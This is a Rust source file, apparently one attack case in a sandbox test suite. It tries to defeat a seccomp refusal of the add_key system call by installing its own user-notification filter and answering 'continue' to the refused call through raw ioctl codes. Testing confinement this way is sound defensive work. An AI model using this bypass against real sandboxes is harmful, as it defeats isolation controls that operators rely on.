//! S14: tries to win over a refusal with a filter of its own.

use std::io;

use super::filter::{LISTENER, Rule, install};
use super::keys::{PROCESS, SESSION};
use crate::attack::{Attack, Judge};
use crate::attacks::kernel::{child, sys, wait};
use crate::attacks::proof;
use crate::stage::Stage;

pub(super) const ROW: Attack = Attack {
    id: "S14",
    name: "override-by-own-filter",
    what: "makes a refused call pass because its own filter says continue",
    prepare,
    attack,
    ..Attack::ROW
};

const RECEIVE: u64 = 0xc050_2100;
const SEND: u64 = 0xc018_2101;
const CONTINUE: u64 = 1;

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    super::keys::join_session()?;
    proof::demanded(stage)
}

fn attack(args: &[String]) -> io::Result<()> {
    let key = |ring: i32| sys!(SYS_add_key, c"user", c"escape", c"x", 1, ring);
    let own = install(Rule { number: libc::SYS_add_key, verdict: libc::SECCOMP_RET_USER_NOTIF }, LISTENER);
    let pid = child(|| {
        key(PROCESS).or_else(|_| key(SESSION))?;
        proof::show(args, 0)
    })?;
    if let Ok(listener) = own {
        let mut notice = [0u64; 10];
        sys!(SYS_ioctl, listener, RECEIVE, &mut notice)?;
        sys!(SYS_ioctl, listener, SEND, &mut [notice[0], 0, CONTINUE << 32])?;
    }
    wait(pid).map(|_| ())
}
